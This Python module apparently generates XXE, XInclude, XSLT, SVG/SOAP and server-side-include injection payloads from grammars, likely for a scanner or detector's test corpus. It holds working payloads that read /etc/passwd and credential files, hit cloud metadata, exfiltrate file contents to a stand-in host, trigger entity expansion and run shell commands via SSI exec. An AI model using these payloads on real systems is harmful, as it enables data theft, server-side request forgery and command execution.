"""Documents that reach outside of themselves: XML with entities, inclusions and stylesheets, and server-side includes.

From XML 1.0, XInclude 1.0, XSLT 1.0, SVG, and Apache's mod_include. What should be well-formed is parsed by expat.
"""

from xml.parsers import expat

from ..grammar import Grammar


def well_formed(value: str) -> bool:
    """Whether expat reads the document, external entities left alone."""
    parser = expat.ParserCreate()
    parser.UseForeignDTD(True)
    parser.ExternalEntityRefHandler = lambda *_: 1
    try:
        parser.Parse(value.encode(), True)
    except expat.ExpatError as error:
        # What only an external DTD could declare.
        return error.code in (11, 12, 14) or ("&" in value and error.code == 26)
    except ValueError:
        return False
    return True


def grammars() -> list[Grammar]:
    g = Grammar("xxe")
    g.rule(
        "uri",
        "file:///etc/passwd",
        "file:///etc/shadow",
        "file:///c:/windows/win.ini",
        "http://x.example/«w»",
        "http://169.254.169.254/latest/meta-data/",
        "file:///proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php",
        "php://filter/read=convert.base64-encode/resource=/etc/passwd",
        "expect://id",
        "/etc/passwd",
        "ftp://x.example:2121/x",
        "gopher://127.0.0.1:6379/_x",
        "jar:http://x.example/x.jar!/x",
        "netdoc:/etc/passwd",
        "https://x.example/x.dtd",
        "http://127.0.0.1:8080/",
        "data:text/plain;base64,PCFFTlRJVFkgJSB4ICJ5Ij4=",
        "file:///dev/random",
        "../../../../etc/passwd",
        "\\\\10.0.0.1\\share\\x",
        "file://localhost/etc/passwd",
        "http://«h».x.example/",
        "file:///var/www/html/config.php",
        "local:///x",
        "//x.example/x.dtd",
        "file:///etc/hostname",
    )
    g.rule(
        "decl",
        '<?xml version="1.0"?>',
        '<?xml version="1.0" encoding="UTF-8"?>',
        "<?xml version='1.0' encoding='utf-8'?>",
        "",
        "",
        '<?xml version="1.0" standalone="no"?>',
        '<?xml version="1.0"?>\n',
    )
    g.rule("root", "foo", "root", "data", "«w»", "r", "x", "test", "svg", "message")
    g.rule("s", " ", " ", " ", "\n", "\t", "  ", "\n  ")
    g.rule("name", "xxe", "x", "e", "«w»", "file", "payload", "a")
    g.family(
        "external-entity",
        '«decl»<!DOCTYPE «root:r»«s»[<!ENTITY «name:n» SYSTEM "«uri»">]><«root:r»>&«name:n»;</«root:r»>',
        "«decl»<!DOCTYPE «root:r» [«s»<!ENTITY «name:n» SYSTEM '«uri»'>«s»]><«root:r»>&«name:n»;</«root:r»>",
        '«decl»<!DOCTYPE «root:r» [<!ELEMENT «root:r» ANY><!ENTITY «name:n»«s»SYSTEM«s»"«uri»">]><«root:r»><a>&«name:n»;</a></«root:r»>',
        '«decl»<!DOCTYPE «root:r» [<!ENTITY «name:n» PUBLIC "«w»" "«uri»">]><«root:r»>&«name:n»;</«root:r»>',
        '«decl»<!DOCTYPE «root:r»[<!ENTITY «name:n» SYSTEM "«uri»">]><«root:r»><user>&«name:n»;</user><id>1</id></«root:r»>',
        '«decl»<!DOCTYPE «root:r» [<!ENTITY «name:n» SYSTEM "«uri»"> ]>\n<«root:r»>\n  <«w:q»>&«name:n»;</«w:q»>\n</«root:r»>',
        check=well_formed,
        weight=4,
    )
    g.family(
        "parameter-entity",
        '«decl»<!DOCTYPE «root:r» [<!ENTITY % «name:n» SYSTEM "«uri»">%«name:n»;]><«root:r»/>',
        '«decl»<!DOCTYPE «root:r» [<!ENTITY % a SYSTEM "«uri»"><!ENTITY % b SYSTEM "http://x.example/«w».dtd">%b;%c;]><«root:r»/>',
        '<!DOCTYPE «root» [<!ENTITY % «name:n» SYSTEM "«uri»"> %«name:n»;]>',
        "<!ENTITY % «name:n» \"<!ENTITY &#x25; e SYSTEM 'http://x.example/?%f;'>\">%«name:n»;%e;",
        '<!ENTITY % file SYSTEM "«uri»"><!ENTITY % all "<!ENTITY send SYSTEM \'http://x.example/?%file;\'>">%all;',
        '«decl»<!DOCTYPE «root:r» [<!ENTITY % l SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; f SYSTEM "«uri»">\'>%l;]><«root:r»/>',
        "<!ENTITY % «name» SYSTEM '«uri»'>",
        '«decl»<!DOCTYPE «root:r» [ <!ENTITY % remote SYSTEM "http://x.example/«w»">%remote;%int;%trick;]><«root:r»>1</«root:r»>',
        weight=2,
    )
    g.family(
        "external-dtd",
        '«decl»<!DOCTYPE «root:r» SYSTEM "«uri»"><«root:r»/>',
        '«decl»<!DOCTYPE «root:r» PUBLIC "-//«w»//DTD «w»//EN" "«uri»"><«root:r»>1</«root:r»>',
        "<!DOCTYPE «root» SYSTEM '«uri»'>",
        '«decl»<!DOCTYPE «root:r» PUBLIC "«w»" "http://x.example/«w».dtd"><«root:r»>&«w»;</«root:r»>',
        '«decl»<!DOCTYPE\n«root:r»\nSYSTEM\n"«uri»"><«root:r»/>',
        weight=2,
    )
    g.family(
        "expansion",
        '«decl»<!DOCTYPE «root:r» [<!ENTITY a "«w»"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><«root:r»>&c;</«root:r»>',
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>',
        '<!DOCTYPE «root:r» [<!ENTITY x "' + "A" * 200 + '«w»">]><«root:r»>' + "&x;" * 40 + "</«root:r»>",
        '<!DOCTYPE «root:r» [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;">]><«root:r»/>',
        '<!DOCTYPE «root:r» [<!ENTITY «name:n» "«w»">]><«root:r»>&«name:n»;&«name:n»;</«root:r»>',
        '<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]><a>&a;</a>',
    )
    g.family(
        "xinclude",
        '<«root:r» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="«uri»"/></«root:r»>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="«uri»"/>',
        '<xi:include parse="text" href="«uri»" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:fallback>«w»</xi:fallback></xi:include>',
        "«decl»<«root:r»><x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='«uri»' parse='text'/></x></«root:r»>",
        '<y:include xmlns:y="http://www.w3.org/2001/XInclude" href="«uri»" parse="text"/>',
        check=well_formed,
    )
    g.family(
        "svg-and-soap",
        '«decl»<!DOCTYPE svg [<!ENTITY «name:n» SYSTEM "«uri»">]><svg xmlns="http://www.w3.org/2000/svg"><text>&«name:n»;</text></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="«uri»"/></svg>',
        '«decl»<!DOCTYPE s [<!ENTITY «name:n» SYSTEM "«uri»">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&«name:n»;</soap:Body></soap:Envelope>',
        '<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "«uri»"> %dtd;]><xxx/>]]></foo></soap:Body>',
        '«decl»<!DOCTYPE rss [<!ENTITY «name:n» SYSTEM "«uri»">]><rss version="2.0"><channel><title>&«name:n»;</title></channel></rss>',
        '«decl»<!DOCTYPE plist [<!ENTITY «name:n» SYSTEM "«uri»">]><plist version="1.0"><string>&«name:n»;</string></plist>',
        '«decl»<!DOCTYPE html [<!ENTITY «name:n» SYSTEM "«uri»">]><html>&«name:n»;</html>',
    )
    g.family(
        "stylesheet",
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'«uri»\')"/></xsl:template></xsl:stylesheet>',
        '<?xml-stylesheet type="text/xsl" href="«uri»"?><x/>',
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/></xsl:template></xsl:stylesheet>',
        "<xsl:value-of select=\"php:function('system','id')\"/>",
        '<xsl:include href="«uri»"/>',
        "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
        '<xsl:import href="«uri»"/>',
        '<msxsl:script language="C#" implements-prefix="u">«w»</msxsl:script>',
    )
    g.family(
        "fragments",
        '<!ENTITY «name» SYSTEM "«uri»">',
        '<!DOCTYPE «root» [<!ENTITY «name» SYSTEM "«uri»">',
        "<!DOCTYPE «root» [",
        "]><«root»>&xxe;</«root»>",
        "<!DOCTYPE x[<!ENTITY %«s»«name» SYSTEM '«uri»'>",
        '<?xml version="1.0" encoding="utf-7"?>+ADw-!DOCTYPE x+AFs-+ADw-!ENTITY e SYSTEM +ACI-«uri»+ACI-+AD4-+AF0-+AD4-',
        '<!doctype «root:r» [<!entity «name:n» system "«uri»">]><«root:r»>&«name:n»;</«root:r»>',
        '&lt;!DOCTYPE «root» [&lt;!ENTITY x SYSTEM "«uri»"&gt;]&gt;',
        "<![CDATA[<!DOCTYPE x [<!ENTITY y SYSTEM '«uri»'>]>]]>",
        '<!ATTLIST «root» a CDATA #FIXED "&xxe;">',
        '<!NOTATION x SYSTEM "«uri»">',
    )

    s = Grammar("ssi")
    s.rule("cmd", "id", "ls", "cat /etc/passwd", "whoami", "dir", "uname -a", "wget http://x.example/x", "/bin/ls /", "ps ax", "«w»")
    s.rule(
        "var",
        "DOCUMENT_ROOT",
        "HTTP_USER_AGENT",
        "DATE_LOCAL",
        "DOCUMENT_NAME",
        "LAST_MODIFIED",
        "REMOTE_ADDR",
        "PATH",
        "QUERY_STRING",
        "SERVER_SOFTWARE",
    )
    s.rule("lead", "", "", "", "«w»", '">', "-->", "«w» ")
    s.family(
        "directive",
        '«lead»<!--#exec cmd="«cmd»"-->',
        '«lead»<!--#exec cmd="«cmd»" -->',
        '«lead»<!--#include file="/etc/passwd"-->',
        '«lead»<!--#include virtual="/«w».html"-->',
        '«lead»<!--#echo var="«var»"-->',
        "«lead»<!--#echo var='«var»' -->",
        "«lead»<!--#printenv-->",
        '«lead»<!--#set var="«w»" value="«w»"-->',
        '«lead»<!--#exec cgi="/cgi-bin/«w».cgi"-->',
        '«lead»<!--#config errmsg="«w»"-->',
        '«lead»<!--#fsize file="/etc/passwd"-->',
        '«lead»<!--#flastmod virtual="/«w»"-->',
        '<!--#if expr="«w»"--><!--#exec cmd="«cmd»"--><!--#endif-->',
        '<!--#EXEC cmd="«cmd»"-->',
        '<!-- #exec cmd="«cmd»"-->',
        "<!--#exec  cmd='«cmd»'-->",
        '<!--#include virtual="../../../../etc/passwd"-->',
        '<!--#echo encoding="none" var="«var»"-->',
        '<esi:include src="http://x.example/«w»"/>',
        '<esi:include src="http://x.example/" stylesheet="http://x.example/x.xsl"/>',
        "<esi:vars>$(HTTP_COOKIE)</esi:vars>",
        'x=<esi:assign name="a" value="«w»"/>',
        '<esi:inline name="/x.html" fetchable="yes"><script>alert(1)</script></esi:inline>',
        "<!--esi $(HTTP_COOKIE) -->",
        "<esi:debug/>",
    )
    return [g, s]
